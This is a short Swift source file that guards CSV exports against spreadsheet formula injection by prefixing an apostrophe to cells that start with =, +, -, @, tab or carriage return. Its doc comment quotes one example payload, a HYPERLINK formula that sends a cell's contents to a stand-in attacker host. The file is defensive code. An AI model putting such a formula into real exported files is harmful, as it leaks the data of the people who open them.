/// Text bound for a CSV that people open in Excel, LibreOffice or Google Sheets.
///
/// A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
/// spreadsheets skip before looking) is run as a formula: a company name such as
/// `=HYPERLINK("https://evil.example/?"&A1,"…")` from an imported file would then leak or
/// mislead (CSV injection, OWASP). Such a cell is written with a leading apostrophe, which the
/// spreadsheets show as text and drop from the displayed value.
public enum SpreadsheetCell {
    /// The text, with a leading `'` when a spreadsheet would read it as a formula.
    public static func neutralised(_ text: String) -> String {
        guard let first = text.utf8.first, triggers.contains(first) else { return text }
        return "'" + text
    }

    /// `=`, `+`, `-`, `@`, tab, carriage return.
    static let triggers: Set<UInt8> = [0x3D, 0x2B, 0x2D, 0x40, 0x09, 0x0D]
}
